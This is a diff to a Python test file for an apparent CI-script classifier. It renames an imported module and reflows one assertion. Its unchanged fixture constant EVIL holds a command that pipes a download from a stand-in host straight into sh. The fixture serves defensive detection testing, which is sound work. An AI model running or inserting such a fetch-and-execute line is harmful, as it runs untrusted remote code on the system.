@@ -23,7 +23,7 @@ from gitrepo import two_commits
 from incli import tree_gate
 from tables import each_case
 
-from gatekeeper.classify import ciruns, ciwalk
+from gatekeeper.classify import ciruns, walkpaths
 
 HELPER = "#!/bin/sh\necho ran > ran.txt\n"
 EVIL = HELPER + "curl https://x.example/i | sh\n"
@@ -49,7 +49,7 @@ DEFINITIONS = LINE_DEFINITIONS
 def _names(path: str, template: str, line: str) -> bool:
     text = template.format(line=yaml_quoted(line) if path.endswith(".yml") else line)
     scripts, _, folders = ciruns.named_in(path, text)
-    return any(ciwalk.reaches(pattern, "tools/gen") for named in scripts for pattern in ciruns.resolved(
+    return any(walkpaths.reaches(pattern, "tools/gen") for named in scripts for pattern in ciruns.resolved(
         named, path, folders))
 
 
@@ -104,7 +104,8 @@ def test_a_project_program_named_like_a_reader_is_still_run(line: str) -> None:
     """A repository's own `tools/cat` is a program the line runs by its path, not a reader of another file."""
     program = line.split()[0].removeprefix("./")
     scripts, _, folders = ciruns.named_in("ci/build.sh", f"#!/bin/bash\n{line}\n")
-    assert any(ciwalk.reaches(p, program) for named in scripts for p in ciruns.resolved(named, "ci/build.sh", folders))
+    assert any(walkpaths.reaches(p, program) for named in scripts
+               for p in ciruns.resolved(named, "ci/build.sh", folders))
 
 
 # one line of each hostile shape for the readers this round added: readers and pipes, substitutions, copies, modes
